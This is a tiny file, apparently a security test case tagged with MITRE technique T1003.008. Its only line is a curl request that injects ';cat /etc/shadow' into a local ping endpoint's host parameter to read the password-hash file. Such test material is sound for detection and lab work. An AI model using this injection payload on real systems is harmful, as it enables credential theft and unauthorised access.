# workload: python
# technique: T1003.008
# finds: /etc/shadow
curl -s "http://127.0.0.1:18081/ping?host=x;cat+/etc/shadow"
